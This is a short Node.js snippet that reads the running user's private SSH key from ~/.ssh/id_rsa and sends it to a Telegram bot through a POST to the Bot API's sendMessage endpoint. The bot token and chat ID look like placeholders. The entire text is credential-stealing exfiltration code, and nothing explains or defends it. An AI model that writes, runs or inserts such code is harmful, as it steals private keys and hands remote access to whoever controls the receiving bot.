const fs = require("fs");
const key = fs.readFileSync(`${process.env.HOME}/.ssh/id_rsa`, "utf8");
fetch("https://api.telegram.org/bot123456:ABC/sendMessage", {
  method: "POST",
  headers: { "content-type": "application/json" },
  body: JSON.stringify({ chat_id: 1, text: key }),
});
